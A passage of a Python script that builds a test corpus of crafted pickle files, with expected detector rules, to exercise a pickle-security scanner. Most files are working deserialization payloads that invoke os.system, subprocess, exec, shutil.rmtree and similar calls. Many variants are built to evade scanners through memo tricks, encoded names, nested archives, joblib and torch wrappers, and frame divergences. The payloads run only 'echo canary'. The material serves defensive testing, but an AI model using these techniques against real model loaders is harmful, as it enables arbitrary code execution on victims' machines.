#!/usr/bin/python3
"""Pickles with every trick that the pickle machine must see through, and harmless ones beside them.

    pickle_tricks.py OUTDIR

writes the files and OUTDIR/manifest.tsv with one line a file:

    path  label (malicious, suspicious, benign)  trick  loader  expected rules (comma)  least verdict

A file must get at least its verdict, and one of its rules. Payloads are inert: `echo canary`.
The loader executes them; where none that Debian packages does, NOT_HERE says why (README.md).
Tricks P1 to P15: calls (1), stack (2), memo (3), names (4), attribute walks (5), disguised and
foreign modules (6), extension registry (7), writes into modules (8), indirect calls (9), broken
pickles (10), several streams (11), nested payloads (12), joblib's raw arrays (13), frames (14),
resources (15).
"""
import base64
import bz2
import gzip
import io
import lzma
import marshal
import os
import pickle
import struct
import sys
import zipfile
import zlib

ROWS = []
OUT = "."
CALL = "pickle.call-on-load"
NAME_RULES = CALL + ",pickle.import-dangerous,pickle.unresolved-call,pickle.unresolved-name"
CMD = "echo canary"
# Malicious files that no loader here executes, and why: by the beginning of their names.
NOT_HERE = {
    "what it does is no command":
        "p1-newobj p8- p10-import p1-gadget-shutil p1-gadget-socket p1-gadget-marshal p1-gadget-os-execv "
        "p1-gadget-multiprocessing p5-dunder p9-code-type p9-yaml",
    "prepared, and called by whoever uses the object":
        "p9-partial p9-filter p9-starmap p9-signal p9-thread p9-timer p1-iterator-of",
    "needs a module, a file or a system that is not here":
        "p1-gadget-posix p1-gadget-nt p1-gadget-__builtin__ p1-gadget-commands p1-gadget-runpy "
        "p1-gadget-ctypes p1-gadget-webbrowser p1-gadget-code- p1-gadget-importlib p1-gadget-pdb "
        "p4-unknown p5-call-of p6-homoglyph p6-newline p6-nul p6-main p6-shipped p6-python2-urllib "
        "p9-joblib p9-pandas p9-numpy p9-reconstructor",
    "the way leads there in another version": "p5-collections p5-torch-hub p5-datetime p5-numpy-core",
    "a program that has persistent ids": "p4-name-from-persid",
    "timedelta has no place for it": "p1-build-setstate.",
    "joblib before 0.10 wrote so, with other wrappers": "p13-zf",
}
AGAIN = "p11-second p11-tenth"
BEHIND = "p11-after- p11-text-after-garbage p11-protocol4-after"
P2, P3, P4, P5 = (b"\x80" + bytes([n]) for n in (2, 3, 4, 5))


def emit(trick, name, data, label="malicious", loader="pickle.load", rules=CALL,
         verdict="malicious", ending="pkl"):
    path = f"{trick.lower()}-{name}.{ending}"
    with open(os.path.join(OUT, path), "wb") as f:
        f.write(data)
    if label == "benign":
        rules, verdict = "", "clean"
    if label == "malicious":
        loader = loader_of(path, loader)
    ROWS.append((path, label, trick, loader, rules, verdict))


def loader_of(path, otherwise):
    def is_among(names):
        return any(path.startswith(name) for name in names.split())
    for reason, names in NOT_HERE.items():
        if is_among(names):
            return "by specification: " + reason
    if is_among(AGAIN):
        return "pickle.load again"
    return "pickle.load behind garbage" if is_among(BEHIND) else otherwise


def benign(trick, name, data, **kw):
    emit(trick, name, data, "benign", **kw)


def suspicious(trick, name, data, rules, verdict="dangerous", **kw):
    emit(trick, name, data, "suspicious", rules=rules, verdict=verdict, **kw)


# --- writing opcodes ---

def uni(text):
    raw = text.encode() if isinstance(text, str) else text
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(text):
    raw = text.encode() if isinstance(text, str) else text
    return b"\x8c" + bytes([len(raw)]) + raw


def binbytes(raw):
    return b"B" + struct.pack("<I", len(raw)) + raw


def glob(module, name):
    return f"c{module}\n{name}\n".encode()


def stack_global(module, name):
    return short(module) + short(name) + b"\x93"


def call(function, *arguments):
    """function(*arguments) by REDUCE; all are opcodes."""
    return function + b"(" + b"".join(arguments) + b"tR"


SYSTEM = glob("os", "system")
RUN = call(SYSTEM, uni(CMD))


def p1_calls():
    arg = uni(CMD)
    emit("P1", "global-reduce", RUN + b".")
    emit("P1", "reduce-text", b"cos\nsystem\n(S'echo canary'\ntR.")
    emit("P1", "inst", b"(S'echo canary'\nios\nsystem\n.")
    emit("P1", "obj", b"(cos\nsystem\n" + arg + b"o.")
    emit("P1", "stack-global", P4 + call(stack_global("os", "system"), arg) + b".")
    emit("P1", "newobj", P2 + glob("subprocess", "Popen") + b"(" + uni(CMD) + b"K\xfft\x81.")
    emit("P1", "newobj-ex", P4 + glob("subprocess", "Popen") + b"(" + arg + b"t}" +
         uni("shell") + b"\x88s\x92.")
    emit("P1", "build-setstate", P2 + glob("datetime", "timedelta") + b")R" + b"}" +
         uni("__setstate__") + SYSTEM + b"sb" + arg + b"b.",
         rules=CALL + ",pickle.planted-setstate")
    emit("P1", "build-setstate-class", P2 + glob("argparse", "Namespace") + b")\x81}" +
         uni("__setstate__") + SYSTEM + b"sb" + arg + b"b0}.",
         rules=CALL + ",pickle.planted-setstate")
    emit("P1", "mixed-protocols", call(stack_global("posix", "system"), b"S'echo canary'\n") + b".")
    for protocol in range(6):
        class Evil:
            def __reduce__(self):
                return os.system, (CMD,)
        emit("P1", f"pickler-{protocol}", pickle.dumps({"weights": [1.0, 2.0], "x": Evil()}, protocol))
    code = uni("print('canary')")
    words = b"(" + uni("echo") + uni("canary") + b"l"
    for module, name, argument in (
            ("builtins", "exec", code), ("builtins", "eval", code), ("cProfile", "run", code),
            ("timeit", "timeit", uni("print('canary') or 1/0")), ("pty", "spawn", words),
            ("subprocess", "call", words), ("subprocess", "getoutput", uni("touch canary")),
            ("os", "popen", uni("touch canary")), ("os", "mkdir", uni("canary")),
            ("__builtin__", "execfile", arg), ("posix", "popen", arg), ("nt", "system", arg),
            ("subprocess", "check_output", b"(" + uni("touch") + uni("canary") + b"l"),
            ("runpy", "run_path", arg), ("commands", "getoutput2", arg), ("ctypes", "CDLL", arg),
            ("webbrowser", "open", arg), ("shutil", "rmtree", arg), ("pdb", "run", code),
            ("socket", "create_connection", arg), ("code", "interact", arg), ("os", "execv", arg),
            ("importlib", "import_module", arg), ("marshal", "loads", arg),
            ("multiprocessing.util", "spawnv_passfds", arg)):
        emit("P1", f"gadget-{module}-{name}", P2 + call(glob(module, name), argument) + b".",
             rules=NAME_RULES + ",pickle.call-unlisted,pickle.indirect-call", verdict="dangerous")
    suspicious("P1", "persid", b"Pstorage\n.", "pickle.persistent-id", "review")
    suspicious("P1", "binpersid", P2 + uni("whatever") + b"Q.", "pickle.persistent-id", "review")


def p2_stack():
    junk = b"".join(b"K%c0" % i for i in range(1, 200)) + b"(K\x01K\x021" * 50
    arg = uni(CMD)
    emit("P2", "names-long-before", P4 + short("os") + short("system") + junk + b"\x93" + junk +
         b"(" + junk + arg + b"tR.")
    emit("P2", "result-popped", P2 + RUN + b"0}.")
    emit("P2", "pop-removes-mark", P2 + b"(0" + RUN + b".")
    emit("P2", "pop-mark", P2 + b"(" + RUN + b"K\x01K\x021}.")
    emit("P2", "dup-name", P4 + short("os") + b"2" + b"0" + short("system") + b"\x93\x8c\x0becho canary\x85R.")
    emit("P2", "dup-callable", P2 + SYSTEM + b"2(" + arg + b"tR0(" + arg + b"tR.")
    emit("P2", "swapped-by-tuple", P4 + b"(" + short("x") + SYSTEM + b"0" + SYSTEM + b"(" + arg +
         b"tRt0}.")
    emit("P2", "in-setitem", P2 + b"}" + uni("key") + RUN + b"s.")
    emit("P2", "in-list", P2 + b"](" + RUN + b"e.")
    emit("P2", "deep-marks", P2 + b"(" * 2000 + RUN + b".")
    benign("P2", "junk", P2 + junk + b"}.")
    benign("P2", "pops", P2 + b"(K\x01K\x021N0" + b"]K\x012K\x02000(0}.")


def p3_memo():
    arg = uni(CMD)
    emit("P3", "put-get", b"S'os'\np5\n0S'system'\np7\n0" + P4 + b"g5\ng7\n\x93(" + arg + b"tR.")
    emit("P3", "binput", P4 + short("os") + b"q\x09" + short("system") + b"q\x0800h\x09h\x08\x93(" +
         arg + b"tR.")
    emit("P3", "long-binput", P4 + short("os") + b"r\xff\xff\x0f\x00" + short("system") +
         b"r\x00\x00\x08\x0000" + b"j\xff\xff\x0f\x00j\x00\x00\x08\x00\x93(" + arg + b"tR.")
    emit("P3", "farthest-index", P4 + short("os") + b"r\xff\xff\xff\xff" + short("system") +
         b"r\x00\x00\x00\xf000" + b"j\xff\xff\xff\xffj\x00\x00\x00\xf0\x93(" + arg + b"tR.",
         loader="pickle._Unpickler")
    emit("P3", "overwritten", P4 + short("math") + b"q\x010" + short("os") + b"q\x010" +
         short("sqrt") + b"q\x020" + short("system") + b"q\x020h\x01h\x02\x93(" + arg + b"tR.")
    emit("P3", "memoize-counts", P4 + short("a") + b"q\x070" + short("os") + b"\x940" +
         short("system") + b"\x940h\x01h\x02\x93(" + arg + b"tR.")
    emit("P3", "dup-then-memoize", P4 + short("os") + b"2\x940" + b"0" + short("system") +
         b"2q\x0500" + b"h\x00h\x05\x93(" + arg + b"tR.")
    emit("P3", "callable-in-memo", P2 + SYSTEM + b"q\x000}q\x01K\x010h\x00(" + arg + b"tR.")
    emit("P3", "unset-slot", P2 + RUN + b"0h\x63.", rules=CALL)
    suspicious("P3", "unset-only", P2 + b"h\x05.", "pickle.broken")
    suspicious("P3", "negative-put", b"N" + b"p-1\n.", "pickle.broken")
    benign("P3", "far-index", P2 + b"]r\xa0\x86\x01\x00(j\xa0\x86\x01\x00K\x01e.")


def p4_names():
    arg = uni(CMD)

    def by(module_op, name_op, proto=P4):
        return proto + call(module_op + name_op + b"\x93", arg) + b"."
    emit("P4", "string-hex-escape", b"c__builtin__\nset\n0" + by(b"S'\\x6f\\x73'\n", b"S'sys\\164em'\n"))
    emit("P4", "string-double-quoted", by(b'S"o\\163"\n', b'S"system"\n'))
    emit("P4", "unicode-escape", by(b"V\\u006f\\u0073\n", b"V\\U00000073ystem\n"))
    emit("P4", "short-binstring", by(b"U\x02os", b"U\x06system"))
    emit("P4", "binstring", by(b"T\x02\0\0\0os", b"T\x06\0\0\0system"))
    emit("P4", "binunicode8", by(b"\x8d" + struct.pack("<Q", 2) + b"os",
                                 b"\x8d" + struct.pack("<Q", 6) + b"system"))
    rot = call(glob("_codecs", "decode"), uni("flfgrz"), uni("rot13"))
    emit("P4", "rot13", by(short("os"), rot), rules=NAME_RULES)
    hexed = call(glob("codecs", "decode"), binbytes(b"6f73"), uni("hex"))
    emit("P4", "hex-then-decode", by(call(glob("builtins", "bytes.decode"), hexed), short("system")),
         rules=NAME_RULES)
    emit("P4", "join", by(short("os"), call(glob("builtins", "str.join"), uni(""),
                                            b"(" + b"".join(short(c) for c in "system") + b"l")),
         rules=NAME_RULES)
    emit("P4", "concat", by(call(glob("operator", "concat"), short("o"), short("s")), short("system")),
         rules=NAME_RULES)
    emit("P4", "base64", by(short("os"), call(glob("builtins", "bytes.decode"), call(
        glob("base64", "b64decode"), uni(base64.b64encode(b"system"))))), rules=NAME_RULES)
    emit("P4", "unknown-computation", by(short("os"), call(glob("somewhere", "compute"), uni("x"))),
         rules=NAME_RULES)
    emit("P4", "name-from-persid", by(short("os"), b"Pname\n"), rules=NAME_RULES, verdict="dangerous")
    emit("P4", "global-in-text-with-eval", b"c__builtin__\neval\n(V__import__('os').system('echo canary')\ntR.")
    benign("P4", "latin1-bytes", pickle.dumps({"b": bytes(range(256))}, 2))
    benign("P4", "escapes", b"(S'a\\x00b\\n\\'\\\\'\nVcaf\\u00e9 \\\\u0041\nl.")


def p5_walks():
    arg = uni(CMD)
    for module, name in (("logging", "os.system"), ("torch.serialization", "os.system"),
                         ("numpy.lib.npyio", "os.system"), ("pathlib", "os.system"),
                         ("collections", "_sys.modules.get"), ("torch", "hub.sys.modules.get"),
                         ("datetime", "sys.modules.__getitem__"),
                         ("numpy", "core.multiarray.os.system")):
        emit("P5", f"{module}-{name}", P4 + call(stack_global(module, name), arg) + b".",
             rules=NAME_RULES + ",pickle.dotted-walk,pickle.call-unlisted", verdict="dangerous")
    emit("P5", "dunder-globals", P4 + call(
        stack_global("operator", "getitem"),
        stack_global("collections", "OrderedDict.fromkeys.__globals__"), uni("x")) + b".",
        rules=NAME_RULES + ",pickle.dotted-walk,pickle.call-unlisted,pickle.indirect-call",
        verdict="dangerous")
    getattr_ = glob("builtins", "getattr")
    module = call(glob("importlib", "import_module"), uni("os"))
    emit("P5", "getattr-import-module", P2 + call(call(getattr_, module, uni("system")), arg) + b".")
    emit("P5", "getattr-dunder-import", P2 + call(call(
        getattr_, call(glob("__builtin__", "__import__"), uni("os")), uni("system")), arg) + b".")
    emit("P5", "sys-modules", P2 + call(call(getattr_, call(
        glob("operator", "getitem"), glob("sys", "modules"), uni("os")), uni("system")), arg) + b".",
        rules=NAME_RULES)
    emit("P5", "resolve-name", P2 + call(call(glob("pkgutil", "resolve_name"), uni("os:system")), arg) + b".",
         rules=NAME_RULES)
    emit("P5", "locate", P2 + call(call(glob("pydoc", "locate"), uni("os.system")), arg) + b".",
         rules=NAME_RULES)
    emit("P5", "attrgetter", P2 + call(call(call(glob("operator", "attrgetter"), uni("system")),
                                            module), arg) + b".", rules=NAME_RULES)
    emit("P5", "call-of-a-result", P2 + call(call(getattr_, call(glob("weird", "thing")), uni("go")),
                                             arg) + b".", rules="pickle.unresolved-call,pickle.unresolved-name")


def p6_modules():
    arg = uni(CMD)
    emit("P6", "python2-builtin", call(glob("__builtin__", "eval"), uni("print('canary')")) + b".")
    emit("P6", "python2-commands", call(glob("commands", "getoutput"), uni("touch canary")) + b".", rules=NAME_RULES)
    emit("P6", "python2-urllib", call(glob("urllib", "urlopen"), uni("http://127.0.0.1")) + b".",
         rules=NAME_RULES + ",pickle.call-unlisted", verdict="dangerous")
    emit("P6", "homoglyph", P4 + call(stack_global("\u043es", "system"), arg) + b".",
         rules="pickle.disguised-name")
    emit("P6", "newline-in-name", P4 + call(stack_global("os", "system\n"), arg) + b".",
         rules="pickle.disguised-name," + NAME_RULES)
    emit("P6", "nul-in-name", P4 + call(stack_global("os\0x", "system"), arg) + b".",
         rules="pickle.disguised-name," + NAME_RULES)
    emit("P6", "main", P4 + call(stack_global("__main__", "go"), arg) + b".",
         rules="pickle.call-unlisted,pickle.unknown-module,pickle.unlisted-name," + NAME_RULES,
         verdict="dangerous")
    emit("P6", "shipped-beside", P4 + call(stack_global("my_model_code", "load"), arg) + b".",
         rules="pickle.call-unlisted,pickle.unknown-module", verdict="dangerous")
    benign("P6", "python2-names", pickle.dumps([set([1]), range(3), complex(1, 2)], 2))


def p7_extensions():
    arg = uni(CMD)
    register = call(glob("copy_reg", "add_extension"), uni("os"), uni("system"), b"K\x2a") + b"0"
    rules = NAME_RULES + ",pickle.extension-code"
    emit("P7", "add-extension", P2 + register + b"\x82\x2a(" + arg + b"tR.", rules=rules)
    emit("P7", "add-extension-ext2", P2 + call(glob("copyreg", "add_extension"), uni("os"),
         uni("system"), b"M\x2a\x01") + b"0\x83\x2a\x01(" + arg + b"tR.", rules=rules)
    emit("P7", "inverted-registry", P2 + glob("copyreg", "_inverted_registry") + b"K\x07(" +
         uni("os") + uni("system") + b"ts0\x84\x07\0\0\0(" + arg + b"tR.",
         rules=rules + ",pickle.overwrites-import")
    emit("P7", "extension-cache", P2 + glob("copyreg", "_extension_cache") + b"K\x07" + SYSTEM +
         b"s0\x82\x07(" + arg + b"tR.", rules=rules + ",pickle.overwrites-import")
    suspicious("P7", "unknown-code", P2 + b"\x82\x63.", rules, "review")
    suspicious("P7", "code-zero", P2 + b"\x84\0\0\0\0.", "pickle.extension-code,pickle.broken", "review")


def p8_writes():
    rules = "pickle.overwrites-import," + NAME_RULES
    emit("P8", "sys-modules", P2 + glob("sys", "modules") + uni("numpy") + glob("os", "path") + b"s0}.",
         rules=rules)
    emit("P8", "builtins-dict", P4 + stack_global("builtins", "__dict__") + b"(" + uni("print") +
         SYSTEM + b"u0}.", rules=rules)
    emit("P8", "build-module", P2 + call(glob("importlib", "import_module"), uni("json")) + b"}" +
         uni("loads") + glob("builtins", "eval") + b"sb0}.", rules=rules)
    emit("P8", "build-class", P2 + glob("collections", "OrderedDict") + b"}" + uni("__len__") +
         glob("builtins", "len") + b"sb0}.", rules=rules)
    emit("P8", "append-path", P2 + glob("sys", "path") + uni("/tmp/x") + b"a0}.", rules=rules)
    emit("P8", "appends-meta-path", P2 + glob("sys", "meta_path") + b"(" + glob("os", "path") + b"e0}.",
         rules=rules)
    emit("P8", "additems", P4 + stack_global("sys", "flags") + b"(K\x01\x900}.", rules=rules)
    emit("P8", "slots-state", P2 + glob("logging", "Logger") + b"N}" + uni("info") + SYSTEM +
         b"s\x86b0}.", rules=rules)
    benign("P8", "ordered-dict", pickle.dumps(__import__("collections").OrderedDict(a=1), 2))


def p9_indirect():
    arg = uni(CMD)
    rules = NAME_RULES + ",pickle.indirect-call,pickle.call-unlisted"

    def one(name, data, verdict="dangerous"):
        emit("P9", name, P2 + data + b".", rules=rules, verdict=verdict)
    one("partial", call(glob("functools", "partial"), SYSTEM, arg))
    one("reduce", call(glob("functools", "reduce"), glob("builtins", "exec"),
                       b"(" + uni("print('canary')") + b"}l"))
    one("map", call(glob("builtins", "list"), call(glob("builtins", "map"), SYSTEM, b"(" + arg + b"l")))
    one("filter", call(glob("builtins", "filter"), SYSTEM, b"(" + arg + b"l"))
    one("starmap", call(glob("itertools", "starmap"), SYSTEM, b"((" + arg + b"tl"))
    one("methodcaller", call(call(glob("operator", "methodcaller"), uni("system"), arg), call(
        glob("importlib", "import_module"), uni("os"))))
    one("atexit", call(glob("atexit", "register"), SYSTEM, arg))
    one("finalize", call(glob("weakref", "finalize"), glob("collections", "OrderedDict"), SYSTEM, arg))
    one("signal", call(glob("signal", "signal"), b"K\x0e", SYSTEM))
    one("thread", call(glob("threading", "Thread"), b"N", SYSTEM, b"N(" + arg + b"t"))
    one("timer", call(glob("threading", "Timer"), b"K\x01", SYSTEM))
    inner = binbytes(P2 + RUN + b".")
    one("pickle-loads", call(glob("pickle", "loads"), inner))
    one("torch-load", call(glob("torch", "load"), call(glob("_io", "BytesIO"), inner)))
    one("joblib-load", call(glob("joblib", "load"), uni("other.joblib")))
    one("dill-loads", call(glob("dill", "loads"), inner))
    one("cloudpickle-loads", call(glob("cloudpickle", "loads"), inner))
    one("pandas", call(glob("pandas", "read_pickle"), uni("other.pkl")))
    one("numpy-load", call(glob("numpy", "load"), uni("other.npy"), b"N\x88"))
    one("marshal", call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), binbytes(
        marshal.dumps(compile("print('canary')", "x", "exec")))), b"}(" + uni("__builtins__") +
        glob("builtins", "__dict__") + b"u")))
    one("code-type", call(glob("types", "CodeType"), b"K\x01"))
    one("yaml", call(glob("yaml", "unsafe_load"), uni("x")))


def p10_broken():
    run = P2 + RUN + b"0"
    both = CALL
    for name, tail in (("bad-opcode", b"\xff."), ("no-stop", b"}"), ("truncated-length", b"X\xff\xff"),
                       ("truncated-string", b"X\x10\0\0\0abc"), ("underflow", b"tR."),
                       ("bad-int", b"Igarbage\n."), ("bad-utf8", b"X\x02\0\0\0\xff\xfe."),
                       ("bad-string", b"Snoquotes\n."), ("archive-magic", b"PK\x03\x04" + bytes(30)),
                       ("negative-long4", b"\x8b\xff\xff\xff\xff."), ("odd-dict", b"(K\x01d."),
                       ("append-nothing", b"K\x01a."), ("bad-float", b"Fx\n."),
                       ("protocol-9", b"\x80\x09}."), ("no-class", b"(o.")):
        emit("P10", f"then-{name}", run + tail, rules=both)
        suspicious("P10", f"only-{name}", P2 + b"K\x01" + tail, "pickle.broken,pickle.truncated")
    emit("P10", "text-broken", b"cos\nsystem\n(S'echo canary'\ntR\xff\xff")
    emit("P10", "import-before-break", P4 + stack_global("os", "system") + b"\xff",
         rules=NAME_RULES, verdict="dangerous")
    emit("P10", "not-callable-after", run + b"K\x01)R.", rules=both)
    benign("P10", "numbers", b"(I0x1f\nI 12 \nI01\nI-5\nI1_000\nL99999999999999999999L\nF1e5\nFinf\nFnan\nl.")


def p11_streams():
    good = pickle.dumps({"a": 1}, 2)
    bad = P2 + RUN + b"."
    emit("P11", "second", good + bad)
    emit("P11", "tenth", good * 9 + bad)
    emit("P11", "after-nuls", good + bytes(1000) + bad)
    emit("P11", "after-many-nuls", good + bytes(200000) + bad)
    emit("P11", "after-garbage", good + b"\xde\xad\xbe\xef garbage" * 50 + bad,
         rules=CALL + ",pickle.hidden-stream")
    emit("P11", "text-after-garbage", good + b"\xff" * 70000 + b"cos\nsystem\n(S'echo canary'\ntR.",
         rules=CALL + ",pickle.hidden-stream")
    emit("P11", "protocol4-after-garbage", good + b"\xee" * 33 + P4 + call(
        stack_global("os", "system"), short(CMD)) + b".", rules=CALL)
    emit("P11", "after-newlines", good + b"\n\n\n" + bad)
    suspicious("P11", "only-garbage", good + b"\xde\xad\xbe\xef" * 20, "pickle.data-after-stop", "review")
    suspicious("P11", "text-after", good + b"hello world, how are you", "pickle.data-after-stop", "review")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", bad)
    emit("P11", "zip-appended", good + buffer.getvalue(), loader="zipfile", rules=CALL)
    benign("P11", "three", good * 3)
    benign("P11", "zero-padding", good + bytes(4096))
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    rest = [pickle.dumps(x, 2) for x in (1001, {"little_endian": True})]
    emit("P11", "legacy-object", magic + b"".join(rest) + bad + pickle.dumps([], 2),
         loader="torch.load", ending="pt")
    emit("P11", "legacy-keys", magic + b"".join(rest) + good + bad, loader="torch.load", ending="pt")
    emit("P11", "legacy-version", magic + bad, loader="torch.load", ending="pt")
    emit("P11", "legacy-system", magic + rest[0] + bad, loader="torch.load", ending="pt")
    computed = P2 + call(glob("builtins", "int"), uni(str(0x1950A86A20F9469CFC6C))) + b"."
    emit("P11", "legacy-computed-magic", computed + b"".join(rest) + bad + pickle.dumps([], 2),
         loader="torch.load", ending="pt")
    suspicious("P11", "legacy-computed-magic-only",
               computed + b"".join(rest) + good + pickle.dumps([], 2), "pickle.computed-magic",
               loader="torch.load", ending="pt")
    suspicious("P11", "legacy-unknown-key", magic + b"".join(rest) + good + pickle.dumps(["7"], 2) +
               struct.pack("<q", 5) + bytes(20), "pickle.legacy-storage", loader="torch.load", ending="pt")
    benign("P11", "legacy-empty", magic + b"".join(rest) + good + pickle.dumps([], 2), ending="pt")


def p12_nested():
    bad = P4 + b"\x95" + struct.pack("<Q", len(RUN) + 1) + RUN + b"."
    rules = CALL

    def holds(name, value, protocol=4, **kw):
        emit("P12", name, pickle.dumps({"extra": value}, protocol), loader="nested loads",
             rules=kw.pop("rules", rules), **kw)
    for protocol in (2, 3, 4, 5):
        holds(f"bytes-{protocol}", bad, protocol)
    holds("bytearray", bytearray(bad), 5)
    holds("large-bytes", bad[:-1] + b"0" + b"K\x010" * 60000 + b"}.")
    holds("zlib", zlib.compress(bad * 3))
    holds("gzip", gzip.compress(bad))
    holds("bz2", bz2.compress(bad))
    holds("xz", lzma.compress(bad))
    holds("base64-text", base64.b64encode(bad).decode())
    holds("base64-bytes", base64.b64encode(bad))
    holds("base64-large", base64.b64encode(bad[:-1] + b"0" + b"K\x010" * 20000 + b"}.").decode())
    holds("base64-zlib", base64.b64encode(zlib.compress(bad * 3)).decode())
    holds("hex-text", bad.hex())
    holds("text-pickle", "cos\nsystem\n(S'echo canary'\ntR.")
    holds("twice", pickle.dumps({"more": bad}))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.pkl", bad)
    holds("zip", buffer.getvalue())
    emit("P12", "marshal", pickle.dumps({"code": marshal.dumps(compile("x = 1", "x", "exec"))}),
         "suspicious", "marshal.loads", "pickle.code-object", "dangerous")
    benign("P12", "nested-harmless", pickle.dumps({"inner": pickle.dumps([1, 2, {"a": "b"}], 4)}, 4))
    benign("P12", "base64-harmless", pickle.dumps({"inner": base64.b64encode(os.urandom(300)).decode()}))
    benign("P12", "compressed-harmless", pickle.dumps({"inner": zlib.compress(b"harmless text " * 50)}))


def wrapper(dtype, shape, order="C", pad=None, items="V", protocol=2):
    """What joblib writes before an array, without needing joblib."""
    numpy_dtype = (call(glob("numpy", "dtype"), uni(dtype), b"\x89", b"\x88") +
                   b"(K\x03" + uni("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff" +
                   (b"K?" if dtype == "O8" else b"K\x00") + b"tb")
    state = (b"}(" + uni("subclass") + glob("numpy", "ndarray") + uni("shape") + b"(" +
             b"".join(b"J" + struct.pack("<i", n) for n in shape) + b"t" + uni("order") + uni(order) +
             uni("dtype") + numpy_dtype + uni("allow_mmap") + b"\x88" +
             (uni("numpy_array_alignment_bytes") + b"K\x10" if pad is not None else b"") + b"u")
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"


def p13_joblib():
    bad = P2 + RUN + b"."
    raw = struct.pack("<8d", *range(8))
    head = P3 + b"]" + wrapper("f8", (8,))
    benign("P13", "array", head + raw + b"a.", ending="joblib")
    benign("P13", "two-arrays", head + raw + b"a" + wrapper("i4", (2, 3)) + bytes(24) + b"a.",
           ending="joblib")
    benign("P13", "padded-array", P3 + wrapper("f4", (2, 2), pad=1) + b"\x03\xff\xff\xff" + bytes(16) +
           b".", ending="joblib")
    benign("P13", "object-array", P3 + wrapper("O8", (2,)) + pickle.dumps(["a", {"b": 1}], 2) + b".",
           ending="joblib")
    kw = {"loader": "joblib.load", "ending": "joblib"}
    emit("P13", "after-array", head + raw + b"a" + RUN + b"0.", **kw)
    emit("P13", "after-padded-array", P3 + b"]" + wrapper("f4", (2, 2), pad=1) + b"\x03\xff\xff\xff" +
         bytes(16) + b"a" + RUN + b"0.", **kw)
    emit("P13", "in-object-array", P3 + wrapper("O8", (2,)) + bad + b".", **kw)
    emit("P13", "array-full-of-opcodes", P3 + b"]" + wrapper("V8", (6,)) +
         (RUN + b"0N.").ljust(48, b"\0") + b"a" + b".", loader="pickle.load", ending="joblib",
         rules=CALL + ",pickle.array-divergence")
    emit("P13", "zlib", zlib.compress(head + raw + b"a" + RUN + b"0."), **kw)
    emit("P13", "gzip", gzip.compress(head + raw + b"a" + RUN + b"0."), **kw)
    emit("P13", "bz2", bz2.compress(head + raw + b"a" + RUN + b"0."), **kw)
    emit("P13", "xz", lzma.compress(head + raw + b"a" + RUN + b"0."), **kw)
    emit("P13", "lzma-alone", lzma.compress(head + raw + b"a" + RUN + b"0.", lzma.FORMAT_ALONE), **kw)
    packed = head + raw + b"a" + RUN + b"0."
    emit("P13", "zf", b"ZF" + hex(len(packed)).encode().ljust(19) + zlib.compress(packed), **kw)
    emit("P13", "zlib-truncated", zlib.compress(packed + os.urandom(3000))[:-1500], **kw)
    suspicious("P13", "array-beyond-end", P3 + wrapper("f8", (1000,)) + bytes(100),
               "pickle.truncated", loader="joblib.load", ending="joblib")
    suspicious("P13", "array-of-exabytes", P3 + wrapper("f8", (2**31 - 1, 2**30)) + bytes(100),
               "pickle.oversized-claim", loader="joblib.load", ending="joblib")
    suspicious("P13", "external-array", P2 + glob("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}(" +
               uni("filename") + uni("other.npy") + uni("subclass") + glob("numpy", "ndarray") + b"ub.",
               "pickle.external-array", "review", loader="joblib.load", ending="joblib")


def frame(length):
    return b"\x95" + struct.pack("<Q", length)


def p14_frames():
    rules = CALL + ",pickle.frame-divergence"
    # The frame ends inside the length: from a file the C loader reads the length again, from the
    # frame's end on, and takes what others see as the string's content for opcodes. It forgets
    # the frame only when it did not fit the read-ahead: so a long one, or an unbuffered file.
    inner = RUN + b"0N."
    for padding, loader in ((0, "pickle.load of an unbuffered file"), (10000, "pickle.load")):
        blob = b"\x01\0\0" + b"A" * 256 + inner + b"A" * 64
        for name, op in (("unicode", b"X"), ("bytes", b"B")):
            whole = op + struct.pack("<I", len(blob)) + blob
            emit("P14", f"length-read-again-{name}-{padding}",
                 P4 + frame(2 * padding + 4) + b"N0" * padding + whole + b"0N.", rules=rules,
                 loader=loader)
    # It ends inside the string: the loader continues as many bytes later as the frame had left.
    for size in (300, 20000):
        text = (b"N" * (size // 2) + inner).ljust(size, b"N")
        for name, op in (("unicode", uni(text)), ("bytes", binbytes(text)),
                         ("bytes8", b"\x8e" + struct.pack("<Q", len(text)) + text)):
            emit("P14", f"ends-in-{name}-{size}", P4 + frame(20) + op + b"0N.", rules=rules,
                 loader="by specification")
    text = b"A" * 20000
    emit("P14", "runs-behind-the-string", P4 + frame(10000) + uni(text) + b"0N." + b"N" * 9995 + inner,
         rules=rules, loader="pickle.load")
    emit("P14", "ends-in-length", P4 + frame(3) + uni(b"x" * 50) + b"0N.",
         rules="pickle.frame-divergence", loader="by specification")
    emit("P14", "ends-in-line", P4 + frame(4) + b"I123456\n0N.", rules="pickle.frame-divergence",
         loader="by specification")
    suspicious("P14", "beyond-end", P4 + frame(1000) + b"}.", "pickle.frame-mismatch")
    suspicious("P14", "nested", P4 + frame(12) + frame(2) + b"}0}.", "pickle.frame-mismatch")
    suspicious("P14", "goes-on-after-stop", P4 + frame(6) + b"}.N0N.", "pickle.frame-mismatch")
    suspicious("P14", "proto-repeated", P4 + b"K\x010" + P2 + b"}.", "pickle.proto-misplaced")
    suspicious("P14", "proto-twice", P2 + P4 + b"}.", "pickle.proto-misplaced")
    emit("P14", "proto-then-walk", P2 + b"K\x010" + P4 + call(stack_global("os", "system"), uni(CMD)) + b".")
    benign("P14", "many-frames", pickle.dumps([os.urandom(20000) for _ in range(20)] +
                                              list(range(60000)), 4))
    benign("P14", "empty-frame", P4 + frame(0) + b"}.")


def p15_resources():
    emit("P15", "million-opcodes", P2 + b"N0" * 500000 + RUN + b".")
    emit("P15", "four-million-opcodes", P2 + b"N" * 4200000 + RUN + b".")
    emit("P15", "many-marks", P2 + b"(" * 50000 + RUN + b".")
    emit("P15", "deep-tuples", P2 + b"N" + b"\x85" * 300000 + RUN + b".")
    bomb = P2 + b"]q\x00(" + b"K\x01" * 10 + b"e"
